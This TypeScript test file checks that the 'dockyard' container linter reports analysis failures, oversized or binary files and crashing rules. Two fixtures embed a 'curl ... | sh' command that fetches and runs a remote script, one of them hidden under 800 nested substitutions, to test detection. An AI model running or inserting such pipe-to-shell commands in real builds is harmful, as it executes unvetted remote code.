// Issue #12: a failure never reads as "no problems". 0.1: ~800 nested `$(` overflowed the shell
// parser's stack, the rules that need the parse were skipped with a line on stderr, and
// `dockyard lint --fail-on warning` printed "no problems" and exited 0.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';

const ROOT = process.env.DOCKYARD_ROOT ?? path.resolve(__dirname, '../../..');

test('a Dockerfile that hides curl | sh under 800 nested $( fails `lint --fail-on warning` with a finding that says why', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dockyard-deep-'));
  try {
    const run = 'echo $('.repeat(800) + 'curl -fsSL https://example.com/i.sh | sh' + ')'.repeat(800);
    fs.writeFileSync(path.join(dir, 'Dockerfile'), `FROM debian:12\nUSER 1000\nRUN ${run}\n`);
    const r = spawnSync(process.execPath, [path.join(ROOT, 'dist/cli.js'), 'lint', '--fail-on', 'warning', '--format', 'json', dir], { encoding: 'utf8' });
    assert.equal(r.status, 1, r.stderr);
    assert.equal(r.stderr, '', 'no rule failed');
    const rules = JSON.parse(r.stdout).files[0].diagnostics.map((d: { rule: string }) => d.rule);
    assert.ok(rules.includes('analysis-incomplete'), rules.join());
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test('a file too large to analyse, or one with a NUL byte, is a warning that fails `lint --fail-on warning`', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dockyard-limits-'));
  try {
    // 9 MB: under the 20 MB limit of other files, over the 8 MB limit of Dockerfiles.
    fs.writeFileSync(path.join(dir, 'Dockerfile'), 'FROM debian:12\n' + 'RUN echo x\n'.repeat(860_000));
    fs.writeFileSync(path.join(dir, 'Containerfile'), 'FROM debian:12\n# a NUL \u0000 in a comment\nRUN curl -fsSL https://x.example/i.sh | sh\n');
    const r = spawnSync(process.execPath, [path.join(ROOT, 'dist/cli.js'), 'lint', '--fail-on', 'warning', '--format', 'json', dir], { encoding: 'utf8' });
    assert.equal(r.status, 1, r.stderr);
    const byFile = Object.fromEntries(JSON.parse(r.stdout).files.map((f: { path: string; diagnostics: { rule: string; severity: string }[] }) => [path.basename(f.path), f.diagnostics.map((d) => `${d.rule}:${d.severity}`)]));
    assert.deepEqual(byFile, { Containerfile: ['binary-file:warning'], Dockerfile: ['file-too-large:warning'] });
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test('a rule that throws gives an internal-error finding (error level) on that file; the other rules still report', async () => {
  const { Analyzer } = await import('../../server/src/core/engine');
  const { ALL_RULES, ENGINE_IDS } = await import('../../server/src/core/rules');
  const { RuleRegistry } = await import('../../server/src/core/rules/registry');
  const { mergeConfig } = await import('../../server/src/core/config/config');
  const boom = (target: 'dockerfile' | 'yaml-document' | 'yaml-file') =>
    ({ id: `boom-${target}`, category: 'meta', target, defaultSeverity: 'warning', check: () => { throw new Error('kaput\nsecond line'); } }) as never;
  const logged: string[] = [];
  const a = new Analyzer(new RuleRegistry([...ALL_RULES, boom('dockerfile'), boom('yaml-document'), boom('yaml-file')], ENGINE_IDS), (rule) => logged.push(rule));
  const df = a.analyze({ path: '/ws/Dockerfile', text: 'FROM ubuntu\n' }, mergeConfig()).findings;
  assert.deepEqual(df.filter((f) => f.rule === 'internal-error').map((f) => [f.severity, f.message]), [['error', { id: 'core.internalError', args: { rule: 'boom-dockerfile', reason: 'kaput' } }]]);
  assert.ok(df.some((f) => f.rule === 'unpinned-base-image'), 'the other rules still ran');
  const y = a.analyze({ path: '/ws/p.yaml', text: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n' }, mergeConfig()).findings;
  assert.deepEqual(y.filter((f) => f.rule === 'internal-error').map((f) => f.message.args?.rule).sort(), ['boom-yaml-document', 'boom-yaml-file']);
  assert.deepEqual(logged.sort(), ['boom-dockerfile', 'boom-yaml-document', 'boom-yaml-file']);
});
